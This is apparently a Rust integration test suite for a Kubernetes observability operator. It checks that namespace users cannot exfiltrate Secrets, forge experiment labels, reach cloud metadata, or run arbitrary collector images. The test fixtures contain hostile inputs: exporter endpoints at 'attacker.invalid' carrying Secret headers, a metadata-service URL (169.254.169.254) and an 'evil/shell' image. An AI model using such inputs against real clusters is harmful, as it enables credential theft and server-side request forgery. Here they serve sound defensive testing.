//! Tenancy (issue 15) on the real control plane: what a namespace user writes into their own
//! objects cannot reach past their own RBAC through the operator.

use std::time::Duration;

use k8s_openapi::api::apps::v1::DaemonSet;
use k8s_openapi::api::core::v1::{ConfigMap, Pod, Secret};
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use kube::api::{Api, DeleteParams, Patch, PatchParams, PostParams};
use phoenix::crd::experiment::{Experiment, ExperimentPhase};
use phoenix::crd::pipeline::PipelinePhase;
use phoenix::crd::{Pipeline, conditions};
use phoenix::desired::collector_config::CollectorConfig;

use crate::harness::{Operator, TestNamespace, cluster, eventually};
use crate::podrunner_test::{Runner, TAINT_KEY, container_pid};

/// The Pipeline `name` once Ready, with its rendered collector config.
async fn ready_config(ns: &TestNamespace, name: &str) -> (Pipeline, CollectorConfig) {
    let pipelines = ns.api::<Pipeline>();
    let p = eventually(
        &format!("Pipeline {name} Ready"),
        Duration::from_secs(60),
        || async {
            let p = pipelines.get(name).await.ok()?;
            (p.status.as_ref()?.phase == Some(PipelinePhase::Ready)).then_some(p)
        },
    )
    .await;
    let cm_name = p
        .status
        .as_ref()
        .and_then(|s| s.config_map.clone())
        .expect("status names the ConfigMap");
    let cm = ns
        .api::<ConfigMap>()
        .get(&cm_name)
        .await
        .expect("the ConfigMap exists");
    let yaml = cm
        .data
        .as_ref()
        .and_then(|d| d.values().next().cloned())
        .expect("the ConfigMap holds the config");
    (p, CollectorConfig::from_yaml(&yaml).expect("config parses"))
}

/// Path 4: the annotations and labels the Experiment controller puts on its children
/// (`phoenix.io/remote-write-url`, `phoenix.io/allow-extra-exporters`, `phoenix.io/experiment`,
/// `phoenix.io/variant`) are ignored on a Pipeline that no Experiment controls: a user cannot
/// point collectors elsewhere through them, nor forge another Experiment's series labels.
#[tokio::test]
async fn experiment_annotations_on_a_users_own_pipeline_are_ignored() {
    let ns = TestNamespace::new("forged").await;
    let _operator = Operator::start(&ns.name, &[]);
    let forged: Pipeline = serde_yaml::from_str(
        "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata:\n  name: forged\n  labels: {phoenix.io/experiment: victim, phoenix.io/variant: candidate}\n  annotations: {phoenix.io/remote-write-url: 'http://attacker.invalid/api/v1/write', phoenix.io/allow-extra-exporters: 'true'}\nspec: {template: baseline}",
    )
    .expect("test Pipeline parses");
    ns.api::<Pipeline>()
        .create(&PostParams::default(), &forged)
        .await
        .expect("Pipeline created");

    let (_, config) = ready_config(&ns, "forged").await;
    let rw = &config.exporters["prometheusremotewrite"].0;
    assert_eq!(
        rw["endpoint"].as_str(),
        Some(cluster().var("PROMETHEUS_REMOTE_WRITE_URL")),
        "the operator's remote-write URL, not the annotation's"
    );
    let labels = &config.processors["resource/phoenix"].0["attributes"];
    let label = |key: &str| {
        labels
            .as_array()
            .and_then(|a| a.iter().find(|l| l["key"] == key))
            .and_then(|l| l["value"].as_str())
            .map(str::to_string)
    };
    assert_eq!(label("phoenix_experiment").as_deref(), Some("none"));
    assert_eq!(label("phoenix_variant").as_deref(), Some("none"));
    let ds: DaemonSet = ns
        .api::<DaemonSet>()
        .get("forged-collector")
        .await
        .expect("DaemonSet");
    let ds_labels = ds.metadata.labels.unwrap_or_default();
    assert_eq!(
        ds_labels.get("phoenix.io/experiment").map(String::as_str),
        Some("")
    );
    ns.cleanup().await;
}

/// A Role in `ns` letting `user` manage Pipelines (and read their status), nothing else: no
/// Secrets.
async fn pipeline_author(ns: &TestNamespace, user: &str) {
    let role: Role = serde_yaml::from_str(
        "metadata: {name: pipeline-author}\nrules: [{apiGroups: [phoenix.io], resources: [pipelines, experiments], verbs: [get, list, watch, create, patch, delete]}]",
    )
    .expect("Role parses");
    ns.api::<Role>()
        .create(&PostParams::default(), &role)
        .await
        .expect("Role created");
    let binding: RoleBinding = serde_yaml::from_str(&format!(
        "metadata: {{name: pipeline-author}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: pipeline-author}}\nsubjects: [{{apiGroup: rbac.authorization.k8s.io, kind: User, name: {user}}}]"
    ))
    .expect("RoleBinding parses");
    ns.api::<RoleBinding>()
        .create(&PostParams::default(), &binding)
        .await
        .expect("RoleBinding created");
}

/// A Secret in `ns` with one key, labelled or not for exporter use.
async fn secret(ns: &TestNamespace, name: &str, opted_in: bool) {
    let labels = if opted_in {
        "{phoenix.io/exporter-credentials: 'true'}"
    } else {
        "{}"
    };
    let s: Secret = serde_yaml::from_str(&format!(
        "metadata: {{name: {name}, labels: {labels}}}\nstringData: {{password: hunter2}}"
    ))
    .expect("Secret parses");
    ns.api::<Secret>()
        .create(&PostParams::default(), &s)
        .await
        .expect("Secret created");
}

fn exporting_pipeline(name: &str, secret: &str) -> Pipeline {
    serde_yaml::from_str(&format!(
        "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata: {{name: {name}}}\nspec:\n  template: baseline\n  exporters: [{{name: out, endpoint: 'http://attacker.invalid', headersSecretRef: {{name: {secret}}}}}]"
    ))
    .expect("test Pipeline parses")
}

/// The env var names of the collector container that come from `secret`.
fn env_from_secret(ds: &DaemonSet, secret: &str) -> Vec<String> {
    ds.spec
        .template
        .spec
        .as_ref()
        .map(|p| {
            p.containers
                .iter()
                .flat_map(|c| c.env.iter().flatten())
                .collect::<Vec<_>>()
        })
        .unwrap_or_default()
        .into_iter()
        .filter(|e| {
            e.value_from
                .as_ref()
                .and_then(|v| v.secret_key_ref.as_ref())
                .is_some_and(|r| r.name == secret)
        })
        .map(|e| e.name.clone())
        .collect()
}

/// Path 2: a user who may write Pipelines but not read Secrets cannot have a Secret's values sent
/// as HTTP headers to an endpoint of their choosing: only Secrets labelled
/// `phoenix.io/exporter-credentials: "true"` are used, and the refusal says so.
#[tokio::test]
async fn only_secrets_opted_in_for_exporters_reach_a_collector() {
    let ns = TestNamespace::new("secrets").await;
    let _operator = Operator::start(&ns.name, &[]);
    pipeline_author(&ns, "mallory").await;
    secret(&ns, "db-password", false).await;
    secret(&ns, "vendor-key", true).await;
    let as_mallory = cluster().client_as("mallory").await;
    let secrets: Api<Secret> = Api::namespaced(as_mallory.clone(), &ns.name);
    assert!(
        secrets.get("db-password").await.is_err(),
        "mallory cannot read Secrets herself"
    );
    let pipelines: Api<Pipeline> = Api::namespaced(as_mallory, &ns.name);
    for (name, secret) in [("steal", "db-password"), ("vendor", "vendor-key")] {
        pipelines
            .create(&PostParams::default(), &exporting_pipeline(name, secret))
            .await
            .expect("mallory may create Pipelines");
    }

    let refused = eventually(
        "Pipeline steal refused",
        Duration::from_secs(60),
        || async {
            let p = pipelines.get("steal").await.ok()?;
            let s = p.status?;
            (s.phase == Some(PipelinePhase::Invalid)).then_some(s)
        },
    )
    .await;
    let valid = conditions::find(&refused.conditions, "ConfigValid").expect("ConfigValid");
    assert_eq!(valid.reason, "SecretNotOptedIn");
    assert!(
        valid.message.contains("phoenix.io/exporter-credentials"),
        "the refusal names the label: {}",
        valid.message
    );
    assert!(
        ns.api::<DaemonSet>()
            .get_opt("steal-collector")
            .await
            .expect("get DaemonSet")
            .is_none(),
        "no collector with the Secret was deployed"
    );

    // A Secret its owner opted in is used.
    ready_config(&ns, "vendor").await;
    let ds = ns
        .api::<DaemonSet>()
        .get("vendor-collector")
        .await
        .expect("DaemonSet");
    assert_eq!(env_from_secret(&ds, "vendor-key").len(), 1);
    ns.cleanup().await;
}

/// Path 6: a spec the schema admits but the apiserver refuses in the generated workload (here a
/// CPU request above its limit: 422 on the DaemonSet) ends as `Invalid` with the apiserver's
/// message, and is not retried (no reconcile error, so no 5 s retry loop) until the spec changes.
#[tokio::test]
async fn a_workload_the_apiserver_refuses_is_a_condition_not_a_retry_loop() {
    let ns = TestNamespace::new("refused").await;
    let operator = Operator::start(&ns.name, &[]);
    let p: Pipeline = serde_yaml::from_str(
        "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata: {name: greedy}\nspec:\n  template: baseline\n  deployment: {resources: {requests: {cpu: '2'}, limits: {cpu: '1'}}}",
    )
    .expect("test Pipeline parses");
    let pipelines = ns.api::<Pipeline>();
    pipelines
        .create(&PostParams::default(), &p)
        .await
        .expect("the schema admits it");
    let status = eventually(
        "Pipeline greedy Invalid",
        Duration::from_secs(60),
        || async {
            let s = pipelines.get("greedy").await.ok()?.status?;
            (s.phase == Some(PipelinePhase::Invalid)).then_some(s)
        },
    )
    .await;
    let valid = conditions::find(&status.conditions, "ConfigValid").expect("ConfigValid");
    assert_eq!(valid.reason, "Invalid");
    assert!(
        valid
            .message
            .contains("must be less than or equal to cpu limit"),
        "the apiserver's own message: {}",
        valid.message
    );
    let errors = operator.reconcile_errors("pipeline");
    assert!(
        errors.is_empty(),
        "a permanent refusal is not a reconcile error to retry: {errors:?}"
    );
    ns.cleanup().await;
}

/// Path 8: per-object state is bounded. A deleted Experiment's series leave the operator's
/// /metrics, and `spec.ttlSecondsAfterFinished` deletes a finished Experiment.
#[tokio::test]
async fn deleted_experiments_leave_metrics_and_finished_ones_expire() {
    let ns = TestNamespace::new("bounded").await;
    let operator = Operator::start(&ns.name, &[]);
    let experiments = ns.api::<Experiment>();
    let make = |name: &str, extra: &str| -> Experiment {
        serde_yaml::from_str(&format!(
            "apiVersion: phoenix.io/v1alpha1\nkind: Experiment\nmetadata: {{name: {name}}}\nspec: {{baseline: {{pipeline: {{template: baseline}}}}, candidate: {{pipeline: {{template: baseline}}}}{extra}}}"
        ))
        .expect("test Experiment parses")
    };
    let series = |name: &str| {
        let needle = format!("experiment=\"{name}\"");
        operator
            .metrics()
            .lines()
            .filter(|l| l.starts_with("phoenix_experiment_phase{") && l.contains(&needle))
            .count()
    };

    experiments
        .create(&PostParams::default(), &make("gone", ""))
        .await
        .expect("Experiment created");
    eventually(
        "series of Experiment gone",
        Duration::from_secs(60),
        || async { (series("gone") > 0).then_some(()) },
    )
    .await;
    experiments
        .delete("gone", &DeleteParams::default())
        .await
        .expect("Experiment deleted");
    eventually(
        "the deleted Experiment's series removed",
        Duration::from_secs(60),
        || async { (series("gone") == 0).then_some(()) },
    )
    .await;

    // Aborted at once, so finished; expires one second later.
    experiments
        .create(
            &PostParams::default(),
            &make("short", ", abort: true, ttlSecondsAfterFinished: 1"),
        )
        .await
        .expect("Experiment created");
    eventually(
        "the finished Experiment deleted",
        Duration::from_secs(60),
        || async {
            experiments
                .get_opt("short")
                .await
                .ok()
                .and_then(|e| e.is_none().then_some(()))
        },
    )
    .await;
    // Without a TTL a finished Experiment stays.
    experiments
        .create(&PostParams::default(), &make("kept", ", abort: true"))
        .await
        .expect("Experiment created");
    let kept = eventually(
        "Experiment kept Aborted",
        Duration::from_secs(60),
        || async {
            let s = experiments.get("kept").await.ok()?.status?;
            (s.phase == Some(ExperimentPhase::Aborted)).then_some(())
        },
    );
    kept.await;
    ns.cleanup().await;
}

/// Path 5: an Experiment's own Prometheus URL is a request the operator sends on the user's
/// behalf: refused (`Failed`, `PrometheusNotAllowed`) unless the operator's settings allow it,
/// and `spec.prometheus` cannot be switched once the Experiment exists.
#[tokio::test]
async fn experiment_prometheus_urls_are_limited_by_the_operator_and_immutable() {
    let ns = TestNamespace::new("promurl").await;
    let _operator = Operator::start(&ns.name, &[]);
    let experiments = ns.api::<Experiment>();
    let make = |name: &str, url: &str| -> Experiment {
        serde_yaml::from_str(&format!(
            "apiVersion: phoenix.io/v1alpha1\nkind: Experiment\nmetadata: {{name: {name}}}\nspec: {{baseline: {{pipeline: {{template: baseline}}}}, candidate: {{pipeline: {{template: baseline}}}}, prometheus: {{url: '{url}'}}}}"
        ))
        .expect("test Experiment parses")
    };
    experiments
        .create(
            &PostParams::default(),
            &make("metadata", "http://169.254.169.254/latest"),
        )
        .await
        .expect("the schema admits any http URL");
    let status = eventually(
        "Experiment metadata Failed",
        Duration::from_secs(60),
        || async {
            let s = experiments.get("metadata").await.ok()?.status?;
            (s.phase == Some(ExperimentPhase::Failed)).then_some(s)
        },
    )
    .await;
    let ready = conditions::find(&status.conditions, "Ready").expect("Ready condition");
    assert_eq!(ready.reason, "PrometheusNotAllowed");
    assert!(
        ns.api::<Pipeline>()
            .get_opt("metadata-baseline")
            .await
            .expect("get Pipeline")
            .is_none(),
        "nothing was deployed"
    );

    // The operator's own Prometheus is allowed; switching it afterwards is refused at admission.
    experiments
        .create(
            &PostParams::default(),
            &make("own", cluster().var("PROMETHEUS_URL")),
        )
        .await
        .expect("Experiment created");
    let switched = experiments
        .patch(
            "own",
            &PatchParams::default(),
            &Patch::Merge(
                serde_json::json!({"spec": {"prometheus": {"url": "http://fake-prom:9090"}}}),
            ),
        )
        .await;
    match switched {
        Err(kube::Error::Api(e)) => {
            assert_eq!(e.code, 422);
            assert!(
                e.message.contains("spec.prometheus is immutable"),
                "{}",
                e.message
            );
        }
        other => panic!("switching spec.prometheus must be refused: {other:?}"),
    }
    ns.cleanup().await;
}

/// Creates a baseline Pipeline `name` in `ns` with `deployment` as the inner YAML of its
/// `spec.deployment` (e.g. `image: x`).
async fn create_baseline(ns: &TestNamespace, name: &str, deployment: &str) {
    let p: Pipeline = serde_yaml::from_str(&format!(
        "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata: {{name: {name}}}\nspec: {{template: baseline, deployment: {{{deployment}}}}}"
    ))
    .expect("test Pipeline parses");
    ns.api::<Pipeline>()
        .create(&PostParams::default(), &p)
        .await
        .expect("the schema admits the Pipeline");
}

/// Path 1: collectors mount the host's /proc, so a Pipeline may not pick an arbitrary image:
/// only the operator's collector image or one its settings allow.
#[tokio::test]
async fn collector_images_come_from_the_operators_settings() {
    let ns = TestNamespace::new("images").await;
    let _operator = Operator::start(
        &ns.name,
        &["--allowed-collector-images", "otelcol-phoenix:allowed"],
    );
    let pipelines = ns.api::<Pipeline>();
    for (name, image) in [
        ("shell", "evil/shell:latest"),
        ("allowed", "otelcol-phoenix:allowed"),
    ] {
        create_baseline(&ns, name, &format!("image: '{image}'")).await;
    }
    let refused = eventually(
        "Pipeline shell refused",
        Duration::from_secs(60),
        || async {
            let s = pipelines.get("shell").await.ok()?.status?;
            (s.phase == Some(PipelinePhase::Invalid)).then_some(s)
        },
    )
    .await;
    let valid = conditions::find(&refused.conditions, "ConfigValid").expect("ConfigValid");
    assert_eq!(valid.reason, "ImageNotAllowed");
    assert!(
        ns.api::<DaemonSet>()
            .get_opt("shell-collector")
            .await
            .expect("get DaemonSet")
            .is_none(),
        "no collector runs the refused image"
    );
    let ds = eventually(
        "DaemonSet allowed-collector",
        Duration::from_secs(60),
        || async {
            ns.api::<DaemonSet>()
                .get_opt("allowed-collector")
                .await
                .ok()?
        },
    )
    .await;
    let image = ds
        .spec
        .template
        .spec
        .as_ref()
        .and_then(|p| p.containers[0].image.clone());
    assert_eq!(image.as_deref(), Some("otelcol-phoenix:allowed"));
    ns.cleanup().await;
}

/// The pod-level `runAsUser`, `runAsGroup`, `fsGroup` and `runAsNonRoot` of a collector DaemonSet.
fn pod_identity(ds: &DaemonSet) -> (Option<i64>, Option<i64>, Option<i64>, Option<bool>) {
    let sc = ds
        .spec
        .template
        .spec
        .as_ref()
        .and_then(|p| p.security_context.clone())
        .unwrap_or_default();
    (
        sc.run_as_user,
        sc.run_as_group,
        sc.fs_group,
        sc.run_as_non_root,
    )
}

/// Creates a baseline Pipeline `name` in `ns` and returns its collector DaemonSet's pod identity.
async fn collector_identity(
    ns: &TestNamespace,
    name: &str,
) -> (Option<i64>, Option<i64>, Option<i64>, Option<bool>) {
    collector_identity_placed(ns, name, "").await
}

/// [`collector_identity`] with `deployment` as the inner YAML of the Pipeline's `spec.deployment`.
async fn collector_identity_placed(
    ns: &TestNamespace,
    name: &str,
    deployment: &str,
) -> (Option<i64>, Option<i64>, Option<i64>, Option<bool>) {
    create_baseline(ns, name, deployment).await;
    let ds = eventually(
        &format!("DaemonSet {name}-collector in {}", ns.name),
        Duration::from_secs(60),
        || async {
            ns.api::<DaemonSet>()
                .get_opt(&format!("{name}-collector"))
                .await
                .ok()?
        },
    )
    .await;
    pod_identity(&ds)
}

/// The pid of the Ready collector of Pipeline `name` in `ns` (run by the local pod runner).
async fn running_collector(ns: &TestNamespace, name: &str) -> u32 {
    let pods = ns.api::<Pod>();
    let selector = kube::api::ListParams::default().labels(&format!("phoenix.io/pipeline={name}"));
    eventually(
        &format!("a Ready collector of {name} in {}", ns.name),
        Duration::from_secs(120),
        || async {
            let pod = pods.list(&selector).await.ok()?.items.into_iter().next()?;
            let ready = pod
                .status
                .as_ref()?
                .conditions
                .as_ref()?
                .iter()
                .any(|c| c.type_ == "Ready" && c.status == "True");
            ready.then(|| container_pid(&pod)).flatten()
        },
    )
    .await
}

/// The real UID, real GID and supplementary groups of process `pid` (`/proc/<pid>/status`).
fn process_identity(pid: u32) -> (u32, u32, Vec<u32>) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_else(|e| panic!("/proc/{pid}/status: {e}"));
    let ids = |field: &str| -> Vec<u32> {
        status
            .lines()
            .find_map(|l| l.strip_prefix(field))
            .unwrap_or_else(|| panic!("no {field} in /proc/{pid}/status"))
            .split_whitespace()
            .map(|v| v.parse().expect("numeric id"))
            .collect()
    };
    (ids("Uid:")[0], ids("Gid:")[0], ids("Groups:"))
}

/// An operator watching `a` and `b` whose collector UIDs come from `range`, recorded in the
/// ledger `<a>/collector-uids` (a test's own, so other tests' namespaces do not take its UIDs).
fn uid_operator(a: &TestNamespace, b: &TestNamespace, range: &str) -> Operator {
    let ledger = format!("{}/collector-uids", a.name);
    Operator::start(
        &format!("{},{}", a.name, b.name),
        &[
            "--collector-uid-range",
            range,
            "--collector-uid-ledger",
            &ledger,
        ],
    )
}

/// Path 1, second half: collectors of different namespaces never share a UID (a same-UID process
/// can read another's `/proc/<pid>/environ`, which holds exporter credentials). Each namespace's
/// collectors run as their own UID (also GID and fsGroup) from the operator's range, recorded in
/// the operator's ledger, so a namespace keeps its UID when the operator restarts. The collectors
/// really run as those UIDs: both are placed on the local pod runner's node, which starts them as
/// their `runAsUser` as a kubelet would, and their processes' real UIDs are read from /proc.
#[tokio::test]
async fn collectors_of_different_namespaces_never_share_a_uid() {
    let (a, b) = (
        TestNamespace::new("uid-a").await,
        TestNamespace::new("uid-b").await,
    );
    let (_runner, node) = Runner::on_own_node(&a).await;
    let placed = format!(
        "nodeSelector: {{kubernetes.io/hostname: {node}}}, tolerations: [{{key: {TAINT_KEY}, operator: Exists, effect: NoSchedule}}]"
    );
    let operator = uid_operator(&a, &b, "2100000000-2100000009");
    // b first, so a holds the second UID: an operator that forgot the ledger on restart would hand
    // a the first one again.
    let (b_uid, b_gid, b_fs, b_nonroot) = collector_identity_placed(&b, "collector", &placed).await;
    let (a_uid, a_gid, a_fs, a_nonroot) = collector_identity_placed(&a, "collector", &placed).await;
    assert!(a_uid.is_some() && b_uid.is_some(), "runAsUser is set");
    assert_ne!(a_uid, b_uid, "two namespaces' collectors share a UID");
    for (uid, gid, fs, nonroot) in [
        (a_uid, a_gid, a_fs, a_nonroot),
        (b_uid, b_gid, b_fs, b_nonroot),
    ] {
        let uid = uid.expect("runAsUser");
        assert!(
            (2_100_000_000..=2_100_000_009).contains(&uid),
            "{uid} comes from the operator's range"
        );
        assert_eq!((gid, fs, nonroot), (Some(uid), Some(uid), Some(true)));
    }
    // What runs: each namespace's collector process has its template's UID, GID and fsGroup.
    let mut running = vec![];
    for (ns, uid) in [(&a, a_uid), (&b, b_uid)] {
        let pid = running_collector(ns, "collector").await;
        let (real_uid, real_gid, groups) = process_identity(pid);
        let uid = uid.and_then(|u| u32::try_from(u).ok()).expect("runAsUser");
        assert_eq!(
            (real_uid, real_gid, groups),
            (uid, uid, vec![uid]),
            "collector {pid} in {} runs as its runAsUser/runAsGroup with fsGroup",
            ns.name
        );
        running.push(real_uid);
    }
    assert_ne!(
        running[0], running[1],
        "two namespaces' collector processes share a UID"
    );
    let recorded = a
        .api::<ConfigMap>()
        .get("collector-uids")
        .await
        .expect("the ledger exists")
        .data
        .unwrap_or_default();
    assert_eq!(
        recorded.get(&a.name).and_then(|v| v.parse::<i64>().ok()),
        a_uid
    );
    assert_eq!(
        recorded.get(&b.name).and_then(|v| v.parse::<i64>().ok()),
        b_uid
    );

    // A restarted operator gives a's next collectors the UID a already holds.
    operator.kill();
    let _operator = uid_operator(&a, &b, "2100000000-2100000009");
    let (again, ..) = collector_identity(&a, "second").await;
    assert_eq!(again, a_uid, "a namespace keeps its UID across restarts");
    a.cleanup().await;
    b.cleanup().await;
}

/// Path 6: what the schema does not check (a node-selector or toleration key whose prefix is
/// longer than a DNS subdomain's 253 characters) is checked by the operator with Kubernetes' rules
/// before anything is applied: the Pipeline is `Invalid` (`InvalidPlacement`) naming the field,
/// no collector workload is created, and nothing is retried (no reconcile error) until the spec
/// changes.
#[tokio::test]
async fn placements_kubernetes_would_refuse_are_a_condition_before_any_apply() {
    let ns = TestNamespace::new("placement").await;
    let operator = Operator::start(&ns.name, &[]);
    let long_prefix = format!("{}/k", "a".repeat(254));
    let cases = [
        (
            "long-selector",
            format!("nodeSelector: {{'{long_prefix}': v}}"),
            "spec.deployment.nodeSelector",
        ),
        (
            "long-toleration",
            format!("tolerations: [{{key: '{long_prefix}', operator: Exists}}]"),
            "spec.deployment.tolerations[0].key",
        ),
    ];
    let pipelines = ns.api::<Pipeline>();
    for (name, deployment, _) in &cases {
        create_baseline(&ns, name, deployment).await;
    }
    for (name, _, field) in &cases {
        let status = eventually(
            &format!("Pipeline {name} Invalid"),
            Duration::from_secs(60),
            || async {
                let s = pipelines.get(name).await.ok()?.status?;
                (s.phase == Some(PipelinePhase::Invalid)).then_some(s)
            },
        )
        .await;
        let valid = conditions::find(&status.conditions, "ConfigValid").expect("ConfigValid");
        assert_eq!(
            valid.reason, "InvalidPlacement",
            "{name}: {}",
            valid.message
        );
        assert!(
            valid.message.starts_with(field),
            "{name}: {}",
            valid.message
        );
        assert!(
            ns.api::<DaemonSet>()
                .get_opt(&format!("{name}-collector"))
                .await
                .expect("get DaemonSet")
                .is_none(),
            "{name}: nothing is applied"
        );
    }
    let errors = operator.reconcile_errors("pipeline");
    assert!(errors.is_empty(), "no retry loop: {errors:?}");
    ns.cleanup().await;
}

/// The message of Pipeline `name`'s `CollectorUidUnavailable` condition, once it has one.
async fn uid_refusal(ns: &TestNamespace, name: &str) -> String {
    let api = ns.api::<Pipeline>();
    eventually(
        &format!("Pipeline {name} CollectorUidUnavailable"),
        Duration::from_secs(60),
        || async {
            let s = api.get(name).await.ok()?.status?;
            let c = conditions::find(&s.conditions, "ConfigValid")?;
            (c.reason == "CollectorUidUnavailable").then(|| c.message.clone())
        },
    )
    .await
}

/// Path 1: when the operator's UID range is used up, or its ledger records one UID for two
/// namespaces (a hand edit), a Pipeline gets `CollectorUidUnavailable` naming the cause and no
/// collector runs: a UID is never guessed or shared.
#[tokio::test]
async fn collector_uids_are_never_guessed_when_the_ledger_cannot_give_one() {
    let (a, b) = (
        TestNamespace::new("uid-full-a").await,
        TestNamespace::new("uid-full-b").await,
    );
    let operator = uid_operator(&a, &b, "2100000100-2100000100");
    let (a_uid, ..) = collector_identity(&a, "first").await;
    assert_eq!(a_uid, Some(2_100_000_100));

    // The range has one UID, and a holds it.
    create_baseline(&b, "second", "").await;
    let message = uid_refusal(&b, "second").await;
    assert!(message.contains("collectorUidRange"), "{message}");
    assert!(
        b.api::<DaemonSet>()
            .get_opt("second-collector")
            .await
            .expect("get DaemonSet")
            .is_none(),
        "no collector without a UID of its own"
    );

    // A ledger edited to give a's UID to another namespace too stops every new assignment.
    a.api::<ConfigMap>()
        .patch(
            "collector-uids",
            &PatchParams::default(),
            &Patch::Merge(serde_json::json!({"data": {"intruder": "2100000100"}})),
        )
        .await
        .expect("ledger edited");
    // A fresh operator (its cache is empty) reads the ledger for a's next Pipeline.
    operator.kill();
    let _operator = uid_operator(&a, &b, "2100000100-2100000101");
    create_baseline(&a, "second", "").await;
    let message = uid_refusal(&a, "second").await;
    assert!(
        message.contains("2100000100") && message.contains("intruder"),
        "{message}"
    );
    a.cleanup().await;
    b.cleanup().await;
}
